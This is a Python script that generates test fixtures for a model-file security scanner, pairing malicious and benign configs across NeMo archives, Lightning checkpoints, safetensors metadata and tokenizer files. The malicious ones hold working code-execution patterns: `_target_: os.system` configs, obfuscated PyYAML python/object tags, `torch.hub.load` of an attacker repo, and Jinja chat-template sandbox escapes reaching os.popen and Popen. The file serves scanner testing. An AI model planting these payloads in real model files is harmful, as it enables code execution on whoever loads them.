#!/usr/bin/env python3
"""Generates tests/fixtures/config/: configs that make a loader instantiate code, in every container issue 12
names, each with a benign twin in the same container, and manifest.json saying what each file must give.

Written with the real libraries (versions in manifest.json): PyYAML dumps the python tags, OmegaConf writes the
NeMo/Hydra YAML and pickles the DictConfig a Lightning checkpoint holds, safetensors writes the metadata. Torch's
checkpoint zip is laid out by tests/gen/gen_containers.py's helpers (byte for byte as torch.save writes it), so
torch itself is not needed. Nothing here loads, instantiates or renders a malicious file: yaml.dump and
pickle.dumps only record references, and the payloads are `echo pwned`.

Cases (issue 12, "Configs that instantiate code"):
  NeMo CVE-2025-23304   .nemo (tar, and tar.gz) whose model_config.yaml has `_target_: os.system`
  Lightning             .ckpt whose pickled hyper_parameters (dict, AttributeDict, OmegaConf DictConfig) has one
  Unit 42 2026          safetensors __metadata__ holding a JSON/YAML config with `_target_`
  plain config.yaml     `_target_` of os.system, torch.hub.load, builtins.exec, _partial_, from_pretrained+trust
  interpolation         `${mod}.${fn}`, `${..impl}`, `${oc.env:X,builtins.exec}`, unresolvable resolvers
  PyYAML tags           !!python/object/apply, !!python/name, !!python/object/new, %TAG and %-escaped spellings
  chat_template SSTI    tokenizer_config.json (string and list forms), chat_template.jinja, chat_template.json
                        (transformers CVE-2026-4372 / CVE-2026-5241, SGLang CVE-2026-5760)

Run: tests/gen/.venv-config/bin/python tests/gen/gen_configs.py   (from the repository root)
     (create the venv with: python3 -m venv tests/gen/.venv-config &&
      tests/gen/.venv-config/bin/pip install -r tests/gen/requirements-config.txt)
"""

import collections
import gzip
import io
import json
import os
import pickle
import shutil
import sys
import tarfile
import types

import numpy as np
import omegaconf
import safetensors
import yaml
from omegaconf import OmegaConf
from safetensors.numpy import save as st_save

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)
import gen_containers as gc  # noqa: E402  (torch zip layout helpers; importing it writes nothing)

ROOT = os.path.join(HERE, "..", "fixtures", "config")
MANIFEST = []
EVIL = "echo pwned"


# The pickle allowlist profiles do not list OmegaConf's classes yet, so the pickle analyser rates every DictConfig
# medium on its own. The DictConfig files are scanned with these allowed (as a user's mlsc.toml would), which shows
# what the config analyser adds; the names are what NeMo and Lightning pass to torch.serialization.add_safe_globals.
OMEGACONF_ALLOW = ["omegaconf.dictconfig.DictConfig", "omegaconf.listconfig.ListConfig",
                   "omegaconf.base.ContainerMetadata", "omegaconf.base.Metadata", "omegaconf.nodes.AnyNode",
                   "typing.Any"]


def put(rel, data, expect, case, codes=(), container="file", allow=()):
    path = os.path.join(ROOT, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    if isinstance(data, str):
        data = data.encode()
    with open(path, "wb") as f:
        f.write(data)
    MANIFEST.append({"file": rel, "expect": expect, "case": case, "container": container, "codes": list(codes),
                     "allow": list(allow)})


# --- realistic benign configs ------------------------------------------------------------------------------------

def nemo_config(preprocessor_target="nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor"):
    """A trimmed NeMo Conformer-CTC model_config.yaml: the layout and targets of the real one."""
    return {
        "sample_rate": 16000,
        "target": "nemo.collections.asr.models.ctc_models.EncDecCTCModel",
        "nemo_version": "2.2.0",
        "tokenizer": {"dir": None, "type": "bpe"},
        "preprocessor": {
            "_target_": preprocessor_target,
            "sample_rate": "${sample_rate}",
            "normalize": "per_feature",
            "window_size": 0.025,
            "window_stride": 0.01,
            "features": 80,
            "n_fft": 512,
        },
        "spec_augment": {
            "_target_": "nemo.collections.asr.modules.SpectrogramAugmentation",
            "freq_masks": 2,
            "time_masks": 10,
        },
        "encoder": {
            "_target_": "nemo.collections.asr.modules.ConformerEncoder",
            "feat_in": "${preprocessor.features}",
            "n_layers": 18,
            "d_model": 512,
        },
        "decoder": {
            "_target_": "nemo.collections.asr.modules.ConvASRDecoder",
            "feat_in": "${encoder.d_model}",
            "num_classes": 128,
        },
        "optim": {
            "name": "adamw",
            "lr": 2.0,
            "sched": {"name": "NoamAnnealing", "d_model": "${encoder.d_model}", "warmup_steps": 10000},
        },
        "train_ds": {"manifest_filepath": None, "batch_size": 32, "shuffle": True},
    }


def yaml_of(cfg):
    return OmegaConf.to_yaml(OmegaConf.create(cfg))


LLAMA3_TEMPLATE = (
    "{{- bos_token }}{%- for message in messages %}{{- '<|start_header_id|>' + message['role'] + "
    "'<|end_header_id|>\\n\\n' + message['content'] | trim + '<|eot_id|>' }}{%- endfor %}"
    "{%- if add_generation_prompt %}{{- '<|start_header_id|>assistant<|end_header_id|>\\n\\n' }}{%- endif %}"
)
CHATML_TEMPLATE = (
    "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + message['content'] + '<|im_end|>' + "
    "'\\n'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}"
)
# A sandbox escape through a global the Jinja environment exposes (cycler), as in the transformers and SGLang
# advisories, and one through the class hierarchy of a literal.
SSTI_GLOBALS = "{{ cycler.__init__.__globals__.os.popen('" + EVIL + "').read() }}" + CHATML_TEMPLATE
SSTI_MRO = (
    "{% for c in ().__class__.__base__.__subclasses__() %}{% if c.__name__ == 'Popen' %}"
    "{{ c('" + EVIL + "', shell=True) }}{% endif %}{% endfor %}" + LLAMA3_TEMPLATE
)
SSTI_ESCAPED = "{{ ''|attr('\\x5f\\x5fclass\\x5f\\x5f') }}" + CHATML_TEMPLATE


def tokenizer_config(template):
    return json.dumps({
        "add_bos_token": True,
        "add_eos_token": False,
        "added_tokens_decoder": {"128000": {"content": "<|begin_of_text|>", "special": True}},
        "bos_token": "<|begin_of_text|>",
        "chat_template": template,
        "clean_up_tokenization_spaces": True,
        "eos_token": "<|eot_id|>",
        "model_max_length": 131072,
        "tokenizer_class": "PreTrainedTokenizerFast",
    }, indent=2)


def hf_config():
    return json.dumps({
        "_name_or_path": "meta-llama/Llama-3.1-8B-Instruct",
        "architectures": ["LlamaForCausalLM"],
        "hidden_size": 4096,
        "model_type": "llama",
        "num_attention_heads": 32,
        "torch_dtype": "bfloat16",
        "transformers_version": "4.46.0",
        "vocab_size": 128256,
    }, indent=2)


# --- containers --------------------------------------------------------------------------------------------------

def nemo_archive(model_config_yaml, gz=False):
    """A .nemo as NeMo's SaveRestoreConnector writes it: model_config.yaml and model_weights.ckpt at the top."""
    weights = gc.torch_zip(gc.torch_members(gc.torch_pickle(gc.state_dict())), name="model_weights")
    tar = gc.tar_bytes([("./model_config.yaml", model_config_yaml.encode()), ("./model_weights.ckpt", weights)])
    # NeMo < 1.7 wrote `w:gz`; gzip with mtime 0 keeps the fixture reproducible.
    return gzip.compress(tar, mtime=0) if gz else tar


# Lightning's AttributeDict (a dict subclass), under its real module name, for pickling by reference.
AttributeDict = type("AttributeDict", (dict,), {"__module__": "lightning.fabric.utilities.data"})
gc._module("lightning.fabric.utilities.data").AttributeDict = AttributeDict


def lightning_ckpt(hparams):
    """A Lightning checkpoint: torch.save of the dict Lightning builds, hyper_parameters included."""
    obj = {
        "epoch": 3,
        "global_step": 1200,
        "pytorch-lightning_version": "2.4.0",
        "state_dict": gc.state_dict(),
        "loops": {},
        "callbacks": {},
        "optimizer_states": [],
        "lr_schedulers": [],
        "hparams_name": "kwargs",
        "hyper_parameters": hparams,
    }
    return gc.torch_zip(gc.torch_members(gc.torch_pickle(obj)), name="archive")


def st_file(metadata):
    return st_save({"fc.weight": np.zeros((4, 4), dtype=np.float32)}, metadata=metadata)


class Apply:
    """Dumped by PyYAML as `!!python/object/apply:<func> [args]` (its __reduce__); never loaded."""

    def __init__(self, func, args):
        self.func, self.args = func, args

    def __reduce__(self):
        return (self.func, self.args)


def main():
    if os.path.isdir(ROOT):
        shutil.rmtree(ROOT)
    os.makedirs(ROOT)

    # --- plain config.yaml -------------------------------------------------------------------------------------
    put("malicious/plain-os-system/config.yaml",
        yaml_of({"model": {"_target_": "os.system", "_args_": [EVIL]}}), "malicious", "plain config.yaml _target_ os.system",
        ["MLSC-CFG-001"])
    put("malicious/plain-torch-hub/config.yaml",
        yaml_of({"model": {"_target_": "torch.hub.load", "repo_or_dir": "attacker/evil-repo", "model": "net",
                           "trust_repo": True}}), "malicious", "torch.hub.load loader gadget", ["MLSC-CFG-001"])
    put("malicious/plain-partial/config.yaml",
        yaml_of({"callback": {"_target_": "subprocess.run", "_partial_": True, "shell": True}}), "malicious",
        "_partial_ with a dangerous target", ["MLSC-CFG-001"])
    put("malicious/plain-from-pretrained-trust/config.yaml",
        yaml_of({"backbone": {"_target_": "transformers.AutoModel.from_pretrained",
                              "pretrained_model_name_or_path": "attacker/evil-model", "trust_remote_code": True}}),
        "malicious", "from_pretrained with trust_remote_code", ["MLSC-CFG-003", "MLSC-CFG-008"])
    put("malicious/plain-hydra-get-method/config.yaml",
        yaml_of({"fn": {"_target_": "hydra.utils.get_method", "path": "os.system"}}), "malicious",
        "hydra.utils.get_method resolves any name", ["MLSC-CFG-001"])
    put("malicious/json-hub-mixin/config.json",
        json.dumps({"_target_": "builtins.exec", "_args_": ["import os; os.system('" + EVIL + "')"], "hidden": 64}),
        "malicious", "hub-mixin JSON config _target_", ["MLSC-CFG-001"])
    put("malicious/json-escaped-key/config.json",
        '{"model": {"\\u005ftarget\\u005f": "os.system", "_args_": ["' + EVIL + '"]}}', "malicious",
        "JSON key spelled with \\u escapes", ["MLSC-CFG-001"])
    put("malicious/toml/config.toml",
        '[model]\n_target_ = "os.system"\n_args_ = ["' + EVIL + '"]\n', "malicious", "TOML _target_", ["MLSC-CFG-001"])
    put("benign/plain/config.yaml", yaml_of(nemo_config()), "benign", "NeMo-style config, framework targets",
        ["MLSC-CFG-011"])
    put("benign/toml/config.toml", '[optimizer]\n_target_ = "torch.optim.AdamW"\nlr = 0.001\n', "benign",
        "TOML twin", ["MLSC-CFG-011"])
    put("benign/json-hub-mixin/config.json",
        json.dumps({"_target_": "torch.nn.Linear", "in_features": 4, "out_features": 4}), "benign",
        "hub-mixin JSON twin", ["MLSC-CFG-011"])
    put("benign/hf-config/config.json", hf_config(), "benign", "transformers config.json with _name_or_path",
        ["MLSC-CFG-008"])
    put("suspicious/from-pretrained/config.yaml",
        yaml_of({"backbone": {"_target_": "transformers.AutoModel.from_pretrained",
                              "pretrained_model_name_or_path": "google-bert/bert-base-uncased"}}),
        "suspicious", "from_pretrained without trust_remote_code loads another model", ["MLSC-CFG-003"])
    put("suspicious/unknown-target/config.yaml", yaml_of({"model": {"_target_": "mypkg.models.Net", "size": 3}}),
        "suspicious", "a target in no known namespace", ["MLSC-CFG-002"])

    # --- interpolation -----------------------------------------------------------------------------------------
    put("malicious/interp-concat/config.yaml",
        yaml_of({"impl": {"mod": "os", "fn": "system"}, "model": {"_target_": "${impl.mod}.${impl.fn}", "_args_": [EVIL]}}),
        "malicious", "${a}.${b} builds os.system", ["MLSC-CFG-001"])
    put("malicious/interp-relative/config.yaml",
        yaml_of({"runner": {"impl": "subprocess.check_output", "job": {"_target_": "${..impl}", "args": [EVIL]}}}),
        "malicious", "relative ${..impl}", ["MLSC-CFG-001"])
    put("malicious/interp-nested/config.yaml",
        yaml_of({"pick": "bad", "choices": {"good": "torch.nn.Identity", "bad": "builtins.eval"},
                 "model": {"_target_": "${choices.${pick}}"}}),
        "malicious", "nested ${choices.${pick}}", ["MLSC-CFG-001"])
    put("malicious/interp-env-default/config.yaml",
        yaml_of({"model": {"_target_": "${oc.env:MODEL_LOADER,builtins.exec}", "_args_": ["print(1)"]}}),
        "malicious", "oc.env default is builtins.exec", ["MLSC-CFG-001", "MLSC-CFG-004"])
    put("suspicious/interp-unresolvable/config.yaml",
        yaml_of({"model": {"_target_": "${oc.env:MODEL_CLASS}"}}), "suspicious",
        "target only known from the environment", ["MLSC-CFG-004"])
    put("suspicious/interp-cycle/config.yaml",
        yaml_of({"a": "${b}", "b": "${a}", "model": {"_target_": "${a}"}}), "suspicious",
        "interpolation cycle in a target", ["MLSC-CFG-004"])
    put("benign/interp/config.yaml",
        yaml_of({"classes": {"model": "nemo.collections.asr.models.EncDecCTCModel"},
                 "model": {"_target_": "${classes.model}", "sample_rate": 16000}}),
        "benign", "interpolated target of a known class", ["MLSC-CFG-011"])

    # --- PyYAML python tags --------------------------------------------------------------------------------------
    put("malicious/pyyaml-apply/hparams.yaml", yaml.dump({"lr": 0.001, "cb": Apply(os.system, (EVIL,))}),
        "malicious", "!!python/object/apply (PyYAML dump)", ["MLSC-CFG-005"])
    put("malicious/pyyaml-name/config.yaml", yaml.dump({"hook": os.system}), "malicious",
        "!!python/name (PyYAML dump)", ["MLSC-CFG-005"])
    put("malicious/pyyaml-new/config.yaml",
        "model:\n  runner: !!python/object/new:subprocess.Popen\n    args: [[sh, -c, '" + EVIL + "']]\n",
        "malicious", "!!python/object/new", ["MLSC-CFG-005"])
    put("malicious/pyyaml-tag-directive/config.yaml",
        "%TAG !p! tag:yaml.org,2002:python/\n---\nhook: !p!object/apply:os.system ['" + EVIL + "']\n",
        "malicious", "%TAG handle hides python/", ["MLSC-CFG-005"])
    put("malicious/pyyaml-escaped/config.yaml", "hook: !!pyth%6Fn/object/apply:os.system ['" + EVIL + "']\n",
        "malicious", "%-escaped tag", ["MLSC-CFG-005"])
    put("malicious/pyyaml-unparseable/config.yaml",
        "hook: !!python/object/apply:os.system ['" + EVIL + "'\nbroken: [\n", "malicious",
        "python tag in YAML that does not parse", ["MLSC-CFG-005"])
    put("benign/pyyaml-tuple/hparams.yaml", yaml.dump({"lr": 0.001, "betas": (0.9, 0.999), "layers": [2, 2]}),
        "benign", "Lightning hparams.yaml with !!python/tuple (data)", ["MLSC-CFG-005"])
    put("benign/pyyaml-text/config.yaml",
        "description: \"write !!python/object/apply:os.system to hack\"  # !!python/name:os.system\n"
        "doc: |\n  example: !!python/object/apply:os.system [x]\nlr: 0.1\n",
        "benign", "python tags only inside strings, comments and block scalars", [])

    # --- limits and parse failures -------------------------------------------------------------------------------
    laughs = "a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n" + "".join(
        f"a{i}: &a{i} [{', '.join([f'*a{i-1}'] * 9)}]\n" for i in range(1, 10))
    put("inconclusive/billion-laughs/config.yaml", laughs, "inconclusive", "YAML alias expansion bomb",
        ["MLSC-CFG-007"])
    put("inconclusive/unparseable/config.yaml", "model:\n  _target_: [unclosed\n  x: {\n", "inconclusive",
        "config.yaml that does not parse", ["MLSC-CFG-006"])

    # --- .nemo (NeMo CVE-2025-23304) --------------------------------------------------------------------------------
    evil_nemo = yaml_of(nemo_config(preprocessor_target="os.system"))
    put("malicious/nemo/model.nemo", nemo_archive(evil_nemo), "malicious",
        "NeMo CVE-2025-23304: model_config.yaml _target_ os.system", ["MLSC-CFG-001"], container="nemo tar")
    put("malicious/nemo-gz/model.nemo", nemo_archive(evil_nemo, gz=True), "malicious",
        "NeMo CVE-2025-23304, tar.gz .nemo", ["MLSC-CFG-001"], container="nemo tar.gz")
    interp_nemo = yaml_of({**nemo_config(preprocessor_target="${loader}"), "loader": "torch.hub.load"})
    put("malicious/nemo-interp/model.nemo", nemo_archive(interp_nemo), "malicious",
        ".nemo target behind interpolation", ["MLSC-CFG-001"], container="nemo tar")
    put("benign/nemo/model.nemo", nemo_archive(yaml_of(nemo_config())), "benign", "benign .nemo",
        ["MLSC-CFG-011"], container="nemo tar")
    put("benign/nemo-gz/model.nemo", nemo_archive(yaml_of(nemo_config()), gz=True), "benign", "benign .nemo tar.gz",
        ["MLSC-CFG-011"], container="nemo tar.gz")

    # --- Lightning .ckpt hyper_parameters ----------------------------------------------------------------------------
    # Pickled with the `os`-free stand-ins of gen_containers for torch globals; the hyper_parameters are plain data.
    put("malicious/ckpt-dict/model.ckpt",
        lightning_ckpt(dict(lr=0.001, encoder={"_target_": "os.system", "_args_": [EVIL]})), "malicious",
        "Lightning hyper_parameters (dict) with _target_ os.system", ["MLSC-CFG-001"], container="ckpt")
    evil_cfg = OmegaConf.create({"cfg": nemo_config(preprocessor_target="torch.hub.load")})
    put("malicious/ckpt-attributedict/model.ckpt",
        lightning_ckpt(AttributeDict(lr=0.001, encoder={"_target_": "os.system", "_args_": [EVIL]})), "malicious",
        "hyper_parameters as an AttributeDict (a dict subclass filled by SETITEMS)", ["MLSC-CFG-001"], container="ckpt")
    put("malicious/ckpt-dictconfig/model.ckpt", lightning_ckpt(evil_cfg.cfg), "malicious",
        "Lightning hyper_parameters holding an OmegaConf DictConfig", ["MLSC-CFG-001"], container="ckpt",
        allow=OMEGACONF_ALLOW)
    interp_cfg = OmegaConf.create({"mod": "builtins", "model": {"_target_": "${mod}.exec", "_args_": ["print(1)"]}})
    put("malicious/ckpt-dictconfig-interp/model.ckpt", lightning_ckpt(interp_cfg), "malicious",
        "DictConfig target behind interpolation", ["MLSC-CFG-001"], container="ckpt", allow=OMEGACONF_ALLOW)
    put("malicious/ckpt-yaml-string/model.ckpt",
        lightning_ckpt({"config_yaml": yaml_of({"model": {"_target_": "os.system", "_args_": [EVIL]}})}),
        "malicious", "a whole YAML config as a pickled string", ["MLSC-CFG-001"], container="ckpt")
    put("benign/ckpt-dict/model.ckpt",
        lightning_ckpt(dict(lr=0.001, encoder={"_target_": "torch.nn.Linear", "in_features": 4})),
        "benign", "benign dict hyper_parameters", ["MLSC-CFG-011"], container="ckpt")
    put("benign/ckpt-dictconfig/model.ckpt",
        lightning_ckpt(OmegaConf.create(nemo_config())), "benign",
        "benign DictConfig hyper_parameters", ["MLSC-CFG-011"], container="ckpt", allow=OMEGACONF_ALLOW)

    # --- safetensors __metadata__ (Unit 42, 2026) -------------------------------------------------------------------
    put("malicious/st-json/model.safetensors",
        st_file({"format": "pt", "config": json.dumps({"model": {"_target_": "os.system", "_args_": [EVIL]}})}),
        "malicious", "JSON config in metadata", ["MLSC-CFG-001"], container="safetensors")
    put("malicious/st-yaml/model.safetensors",
        st_file({"format": "pt", "model_config": yaml_of(nemo_config(preprocessor_target="builtins.eval"))}),
        "malicious", "YAML config in metadata", ["MLSC-CFG-001"], container="safetensors")
    put("malicious/st-target-key/model.safetensors", st_file({"format": "pt", "_target_": "torch.load"}),
        "malicious", "metadata key _target_", ["MLSC-CFG-001"], container="safetensors")
    put("malicious/st-chat-template/model.safetensors", st_file({"format": "pt", "chat_template": SSTI_MRO}),
        "malicious", "chat template in metadata", ["MLSC-CFG-009"], container="safetensors")
    put("benign/st-json/model.safetensors",
        st_file({"format": "pt", "config": json.dumps(nemo_config())}), "benign", "benign config in metadata",
        ["MLSC-CFG-011"], container="safetensors")
    put("benign/st-plain/model.safetensors", st_file({"format": "pt"}), "benign", "ordinary metadata", [],
        container="safetensors")

    # --- chat templates ----------------------------------------------------------------------------------------------
    put("malicious/tok-ssti-globals/tokenizer_config.json", tokenizer_config(SSTI_GLOBALS), "malicious",
        "chat_template reaches os through cycler.__init__.__globals__", ["MLSC-CFG-009"], container="tokenizer_config")
    put("malicious/tok-ssti-list/tokenizer_config.json",
        tokenizer_config([{"name": "default", "template": CHATML_TEMPLATE}, {"name": "tool_use", "template": SSTI_MRO}]),
        "malicious", "list-form chat_template, escape in the tool_use entry", ["MLSC-CFG-009"],
        container="tokenizer_config")
    put("malicious/tok-ssti-escaped/tokenizer_config.json", tokenizer_config(SSTI_ESCAPED), "malicious",
        "dunder spelled with \\x escapes through attr()", ["MLSC-CFG-009"], container="tokenizer_config")
    put("malicious/jinja/chat_template.jinja", SSTI_MRO, "malicious", "chat_template.jinja escape",
        ["MLSC-CFG-009"], container="chat_template.jinja")
    put("malicious/chat-template-json/chat_template.json", json.dumps({"chat_template": SSTI_GLOBALS}),
        "malicious", "chat_template.json escape", ["MLSC-CFG-009"], container="chat_template.json")
    put("benign/tok/tokenizer_config.json", tokenizer_config(LLAMA3_TEMPLATE), "benign", "Llama 3 template", [],
        container="tokenizer_config")
    put("benign/tok-list/tokenizer_config.json",
        tokenizer_config([{"name": "default", "template": CHATML_TEMPLATE}, {"name": "rag", "template": LLAMA3_TEMPLATE}]),
        "benign", "list-form templates", [], container="tokenizer_config")
    put("benign/jinja/chat_template.jinja", LLAMA3_TEMPLATE, "benign", "chat_template.jinja", [],
        container="chat_template.jinja")
    put("benign/chat-template-json/chat_template.json", json.dumps({"chat_template": CHATML_TEMPLATE}), "benign",
        "chat_template.json", [], container="chat_template.json")

    versions = {"python": sys.version.split()[0], "PyYAML": yaml.__version__, "omegaconf": omegaconf.__version__,
                "safetensors": safetensors.__version__, "numpy": np.__version__}
    with open(os.path.join(ROOT, "manifest.json"), "w") as f:
        json.dump({"generator": "tests/gen/gen_configs.py", "versions": versions, "files": MANIFEST}, f, indent=1)
        f.write("\n")
    print(f"{len(MANIFEST)} files under {os.path.relpath(ROOT)}")


if __name__ == "__main__":
    main()
